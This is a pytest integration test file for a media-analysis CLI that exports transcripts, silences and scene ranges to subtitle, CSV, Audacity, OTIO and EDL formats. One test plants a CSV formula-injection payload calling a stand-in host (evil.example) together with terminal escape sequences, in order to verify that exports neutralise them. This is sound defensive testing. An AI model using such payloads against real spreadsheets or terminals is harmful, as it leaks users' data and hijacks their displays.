"""Exports of real results, read back by other people's readers."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from itertools import pairwise
from pathlib import Path, PurePath
from typing import TYPE_CHECKING, Any

import opentimelineio as otio
import pysubs2
import pytest

from mediahost.cli.export_formats import Film, Mark, as_csv

if TYPE_CHECKING:
    from tests.integration.conftest import Home

PROGRAM = Path(sys.executable).with_name("mediahost")
BEGINNING = "it was the best of times it was the worst of times"
TALK = """
[pipelines.talk]
steps = [
    {name = "sound", action = "av.extract_audio"},
    {action = "speech.transcribe", config = {model = "tiny.en"}, media = "sound"},
]
"""


SAYS = """
from mediahost import Analyzer, MediaAnalysisResult, TimeRange, Transcription, hookimpl


class Says(Analyzer, name="says.words"):
    def analyze(self, media, context):
        words = {words!r}
        said = TimeRange(start=0, end=2, label="speech", payload={{"text": words}})
        told = Transcription(provider="says", text=words)
        return MediaAnalysisResult(ranges=(said,), transcription=told)


@hookimpl
def mediahost_register_actions():
    return [Says]
"""


def exported(home: "Home", path: Path, format_name: str) -> Path:
    target = home.folder / f"out.{format_name}"
    answer = home.call("export", path, "--format", format_name, "--output", target, "--json")
    assert answer.code == 0, answer.err
    assert answer.json["path"] == str(target)
    return target


def ranges_of(home: "Home", path: Path, action: str) -> list[dict[str, Any]]:
    (one,) = home.call("results", path, "--action", action, "--json").json
    return list(one["result"]["ranges"])


def _words(text: str) -> str:
    """What is said, without the punctuation that a model guesses."""
    return " ".join(re.findall(r"[a-z']+", text.lower()))


def test_a_transcript_becomes_subtitles(home: "Home") -> None:
    path = home.example("two_cities.flac")
    spoke = home.call("run", path, "--action", "speech.transcribe:model=tiny.en")
    assert spoke.code == 0, spoke.err
    spoken = ranges_of(home, path, "speech.transcribe")
    cues = list(pysubs2.load(str(exported(home, path, "srt"))))
    said = " ".join(" ".join(cue.plaintext.split()) for cue in cues)
    assert _words(said).startswith(BEGINNING)
    assert len(said.split()) > 100
    assert all(len(line) <= 42 for cue in cues for line in cue.plaintext.split("\n"))
    assert all(one.end <= two.start for one, two in pairwise(cues))
    assert abs(cues[0].start / 1000 - spoken[0]["start"]) < 0.01
    assert abs(cues[-1].end / 1000 - spoken[-1]["end"]) < 0.6
    for format_name in ("vtt", "ass"):
        read = pysubs2.load(str(exported(home, path, format_name)))
        assert [event.plaintext for event in read] == [cue.plaintext for cue in cues]
        late_ms = [abs(event.start - cue.start) for event, cue in zip(read, cues, strict=True)]
        assert max(late_ms) <= 10


@pytest.mark.parametrize(
    ("name", "asked", "duration"),
    [
        ("two_cities.flac", "audio.silence:noise_db=-45,min_s=0.7", 44.374),
        ("bigbuckbunny.mp4", "scenes.detect", 5.312),
    ],
)
def test_ranges_become_labels_tables_and_edit_lists(
    home: "Home", name: str, asked: str, duration: float
) -> None:
    path = home.example(name)
    assert home.call("run", path, "--action", "av.probe", "--action", asked).code == 0
    action = asked.partition(":")[0]
    scenes = ranges_of(home, path, action)
    times = [(scene["start"], scene["end"]) for scene in scenes]
    assert times
    rows = list(csv.DictReader(io.StringIO(exported(home, path, "csv").read_text("utf-8"))))
    assert [(float(row["start"]), float(row["end"])) for row in rows] == times
    assert Counter(row["action"] for row in rows) == {action: len(scenes)}
    assert [json.loads(row["payload"] or "{}") for row in rows] == [
        scene["payload"] for scene in scenes
    ]
    labels = [
        line.split("\t") for line in exported(home, path, "audacity").read_text().splitlines()
    ]
    assert [(float(start), float(end)) for start, end, _ in labels] == times
    timeline = otio.adapters.read_from_file(str(exported(home, path, "otio")))
    (clip,) = timeline.find_clips()
    assert clip.media_reference.target_url == path.as_uri()
    assert abs(clip.source_range.duration.to_seconds() - duration) < 0.05
    marked = [marker.marked_range for marker in clip.markers]
    assert [round(at.start_time.to_seconds(), 3) for at in marked] == [start for start, _ in times]
    cut = otio.adapters.read_from_file(str(exported(home, path, "edl")), rate=25)
    clips = list(cut.find_clips())
    assert [clip.source_range.start_time.to_frames() for clip in clips] == [
        round(start * 25) for start, _ in times
    ]
    assert [clip.source_range.duration.to_frames() for clip in clips] == [
        round(end * 25) - round(start * 25) for start, end in times
    ]


def test_chapters_keep_their_titles(home: "Home") -> None:
    path = home.example("two_cities.flac")
    assert home.call("run", path, "--action", "audio.chapters").code == 0
    for format_name in ("audacity", "csv", "edl", "otio", "srt"):
        assert "Chapter 1" in exported(home, path, format_name).read_text("utf-8"), format_name


def test_what_is_known_of_a_made_file_is_known_of_its_source_at_the_right_time(
    home: "Home",
) -> None:
    path, silences = home.example("two_cities.flac"), "audio.silence:noise_db=-45,min_s=0.7"
    cut = home.call("run", path, "--action", "av.extract_segment:start=10,duration=20", "--json")
    (segment,) = cut.json["rows"][0]["artifacts"]
    assert home.call("run", segment, "--action", silences).code == 0

    (of_segment,) = home.call("results", path, "--action", "audio.silence", "--json").json
    assert (of_segment["media"], of_segment["made_by"]) == (segment, ["av.extract_segment"])
    told = home.call("results", path).out
    assert "audio.silence of what av.extract_segment made" in told
    moved = exported(home, path, "csv").read_text("utf-8")

    assert home.call("run", path, "--action", silences).code == 0
    of_both = home.call("results", path, "--action", "audio.silence", "--json").json
    assert [one["made_by"] for one in of_both] == [[], ["av.extract_segment"]]
    whole = [at["start"] for at in of_both[0]["result"]["ranges"] if 11 < at["start"] < 29]
    starts = [float(row["start"]) for row in csv.DictReader(io.StringIO(moved))]
    inside = [start for start in starts if 11 < start < 29]
    assert len(whole) > 3
    assert inside == pytest.approx(whole, abs=0.03)
    # Now the file itself says it, and nothing is said twice.
    rows = list(csv.DictReader(io.StringIO(exported(home, path, "csv").read_text("utf-8"))))
    assert [float(row["start"]) for row in rows] == [
        at["start"] for at in of_both[0]["result"]["ranges"]
    ]


def test_a_film_is_exported_with_what_was_said_in_its_sound(home: "Home") -> None:
    path = home.example("two_cities.flac")
    home.settings(TALK)
    done = home.call("run", path, "--pipeline", "talk")
    assert done.code == 0, done.err
    cues = pysubs2.load(str(exported(home, path, "srt")))
    assert _words(" ".join(cue.plaintext for cue in cues)).startswith(BEGINNING)
    (found,) = home.call("search", "best of times", "--json").json
    assert found["made_from"] == str(path)
    assert found["media"] != str(path)
    assert "two_cities.flac made from media/two_cities.flac" in home.call("search", "wisdom").out


def test_json_is_what_results_prints(home: "Home") -> None:
    path = home.tone("a.wav")
    home.call("run", path, "--action", "count.look")
    answer = home.call("export", path, "--format", "json")
    assert answer.json == home.call("results", path, "--json").json


def test_what_can_not_be_exported_is_said(home: "Home") -> None:
    path = home.tone("a.wav")
    home.call("run", path, "--action", "count.look")
    answer = home.call("export", path, "--format", "srt")
    assert answer.code == 2
    assert "Nothing is stored for" in answer.err
    assert "mediahost run" in answer.err
    wrong = home.call("export", path, "--format", "sub")
    assert (wrong.code, "No format named 'sub'" in wrong.err) == (2, True)
    itself = home.call("export", path, "--format", "json", "--output", path)
    assert (itself.code, "is the media file itself" in itself.err) == (2, True)


@pytest.fixture(scope="module")
def on_a_terminal() -> Callable[["Home", str], bytes]:
    """What a shell's line writes to a terminal."""

    def written(home: "Home", line: str) -> bytes:
        near, far = os.openpty()
        path = f"{PROGRAM.parent}{os.pathsep}{home.environ['PATH']}"
        environ = {**home.environ, "PATH": path, "TERM": "xterm"}
        done = subprocess.Popen(["sh", "-c", line], stdout=far, env=environ, cwd=home.folder)
        os.close(far)
        data = b""
        with suppress(OSError):  # EIO: nobody writes any more
            while piece := os.read(near, 4096):
                data += piece
        os.close(near)
        assert done.wait(60) == 0
        return data

    return written


def test_a_table_holds_no_formula_and_a_terminal_obeys_no_export(
    home: "Home", on_a_terminal: Callable[["Home", str], bytes]
) -> None:
    path = home.tone("t.wav")
    words = '=HYPERLINK("http://evil.example/?"&A1) \x1b]0;OWNED\x07\x1b[31mred'
    plugin = home.folder / "says.py"
    plugin.write_text(SAYS.format(words=words))
    home.environ["MEDIAHOST_PLUGINS"] = str(plugin)
    assert home.call("run", path, "--action", "says.words").code == 0
    (row,) = csv.DictReader(io.StringIO(exported(home, path, "csv").read_text()))
    assert row["text"] == "'" + words
    for name in ("csv", "srt", "audacity", "edl"):
        data = on_a_terminal(home, f"mediahost export media/t.wav -f {name}")
        assert b"OWNED" in data
        assert not re.search(rb"[\0-\x08\x0b\x0c\x0e-\x1f\x7f]", data), data


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@A", " =1", "\t=1", "\r1", "\n1", "\x1f=1", "\u200b=1", "\uff1d1"]
)
def test_what_a_spreadsheet_takes_for_a_formula_is_text(text: str) -> None:
    table = as_csv([Mark(0, 1, text, text)], Film(PurePath("t.wav")))
    (row,) = csv.DictReader(io.StringIO(table, newline=""))
    assert (row["label"], row["text"]) == (f"'{text}", f"'{text}")


@pytest.mark.parametrize("text", ["a=1", "speech", "1-1", "", "(=1)"])
def test_all_other_text_is_as_it_is(text: str) -> None:
    table = as_csv([Mark(0, 1, text, text)], Film(PurePath("t.wav")))
    (row,) = csv.DictReader(io.StringIO(table, newline=""))
    assert (row["label"], row["text"]) == (text, text)
